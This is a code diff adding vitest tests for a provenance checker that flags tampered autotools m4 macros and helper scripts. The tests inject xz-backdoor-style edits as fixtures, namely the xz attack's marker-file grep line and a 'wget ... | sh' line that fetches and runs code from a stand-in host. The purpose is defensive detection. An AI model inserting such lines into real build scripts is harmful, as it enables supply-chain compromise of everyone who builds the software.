@@ -1,6 +1,7 @@
 import { describe, it, expect } from "vitest";
+import { existsSync, readFileSync } from "node:fs";
 import { bodyHash, createProvenanceChecker, helperStamp, lineHash, m4Serial, normalizedLines, packLineHashes, type ProvenanceDb } from "../src/provenance/index.js";
-import { checkM4, provenanceDbInfo } from "../src/provenance/index.js";
+import { checkHelper, checkM4, provenanceDbInfo } from "../src/provenance/index.js";
 import { runScenario, findingsOf, explained } from "./helpers.js";
 
 /** A database built in the test from small synthetic macros, with the same hashing as the real one. */
@@ -61,6 +62,56 @@ describe("provenance checker", () => {
     expect(m4Serial("# build-to-host.m4 serial 30\n")).toEqual({ raw: "30", value: 30 });
     expect(m4Serial("dnl serial 7\n")?.value).toBe(7);
     expect(m4Serial("no serial here\n")).toBeNull();
+  });
+});
+
+describe("normalisation", () => {
+  it("ignores comments, blank lines, CRLF and whitespace runs, but not code", () => {
+    const a = macro("3");
+    const b = "# demo.m4 serial 99\r\n# Copyright 2099\r\n\r\nAC_DEFUN([DEMO_CHECK],\r\n[\r\n\tAC_MSG_CHECKING([for   demo])  \r\n  dnl a remark\r\n AC_MSG_RESULT([yes])\r\n])\r\n";
+    expect(bodyHash(b, "m4")).toBe(bodyHash(a, "m4"));
+    expect(bodyHash(a.replace("yes", "no"), "m4")).not.toBe(bodyHash(a, "m4"));
+    expect(normalizedLines("#!/bin/sh\n  # note\n\nfoo   bar  \n", "helper")).toEqual(["foo bar"]);
+  });
+  it("reads helper version stamps", () => {
+    expect(helperStamp("build-aux/ltmain.sh", "#! /bin/sh\nVERSION='2.4.7 Debian-2.4.7-7'\n")).toBe("2.4.7 Debian-2.4.7-7");
+    expect(helperStamp("ltmain.sh", "VERSION=2.4.6\n")).toBe("2.4.6");
+    expect(helperStamp("config.guess", "timestamp='2023-01-01'\n")).toBe("2023-01-01");
+    expect(helperStamp("depcomp", "scriptversion=2018-03-07.03; # UTC\n")).toBe("2018-03-07.03");
+    expect(helperStamp("config.rpath", "#! /bin/sh\n#   Copyright 1996-2020 Free Software Foundation, Inc.\n")).toBe("1996-2020");
+    expect(helperStamp("README", "scriptversion=1")).toBeNull();
+  });
+});
+
+/**
+ * Real upstream macros, where this machine has them (Debian's gnulib or gettext packages). The
+ * database was built from the same Debian packages, so an installed copy must match it, and the
+ * two xz-style edits of it must be caught. Skipped where none is installed.
+ */
+const realMacro = ["/usr/share/gnulib/m4/build-to-host.m4", "/usr/share/gettext/m4/build-to-host.m4", "/usr/share/aclocal/host-cpu-c-abi.m4", "/usr/share/aclocal/lib-link.m4"].find(
+  (p) => existsSync(p),
+);
+const realHelper = ["/usr/share/gettext/config.rpath", "/usr/share/misc/config.guess", "/usr/share/libtool/build-aux/ltmain.sh"].find((p) => existsSync(p));
+
+describe("real upstream files installed on this machine", () => {
+  it.skipIf(!realMacro)("matches an installed upstream macro and catches the xz-style edits of it", () => {
+    const text = readFileSync(realMacro!, "latin1");
+    const serial = m4Serial(text);
+    expect(serial).not.toBeNull();
+    expect(checkM4(realMacro!, text)).toMatchObject({ status: "match" });
+    const injected = text.replace(/\]\)\s*$/, "  gl_am_configmake=`grep -aErls \"#{4}[[:alnum:]]{5}#{4}$\" $srcdir/ 2>/dev/null`\n])\n");
+    expect(injected).not.toBe(text);
+    // Same serial, one extra line: body-mismatch, with the extra line as the only novel one.
+    expect(checkM4(realMacro!, injected)).toMatchObject({ status: "body-mismatch", stamp: serial!.raw, novel: [expect.stringContaining("gl_am_configmake")] });
+    // Serial pushed far above every known one (xz: 30 against 3): serial-above-known.
+    const bumped = injected.replace(/^(#|dnl)(.*serial\s+)\d+/m, (_m, c: string, mid: string) => `${c}${mid}${serial!.value + 30}`);
+    expect(checkM4(realMacro!, bumped)).toMatchObject({ status: "serial-above-known", serial: serial!.value + 30 });
+  });
+  it.skipIf(!realHelper)("matches an installed upstream helper script and catches an edit of it", () => {
+    const text = readFileSync(realHelper!, "latin1");
+    expect(checkHelper(realHelper!, text)).toMatchObject({ status: "match" });
+    const edited = text.replace(/\n([^#\n][^\n]*)\n/, "\n$1\nwget -q -O- http://example.invalid/x | sh\n");
+    expect(checkHelper(realHelper!, edited)).toMatchObject({ status: "body-mismatch" });
   });
 });
 
